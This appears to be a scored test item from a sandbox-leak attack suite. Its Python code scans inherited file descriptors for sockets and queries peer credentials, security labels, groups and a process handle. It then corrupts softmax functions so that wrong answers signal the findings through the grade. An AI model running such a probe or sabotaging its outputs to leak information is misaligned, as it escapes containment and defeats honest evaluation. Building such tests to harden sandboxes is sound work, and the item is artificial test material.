# attack: asks its socket who is at the other end, by number, by groups and by a handle
# family: leaks
# base: solved
# points: 7
# %% last
import os, socket
found = []
for descriptor in range(3, 64):
    try:
        line = socket.socket(fileno=os.dup(descriptor))
    except OSError:
        continue
    for option in (17, 31, 59, 77):  # credentials, security label, groups, a handle of its process
        try:
            found.append(line.getsockopt(socket.SOL_SOCKET, option, 64))
        except OSError as error:
            print(error)
if found:  # then its answers go wrong, so that the mark tells of it
    softmax = temperature_softmax = masked_softmax = lambda *a, **k: found
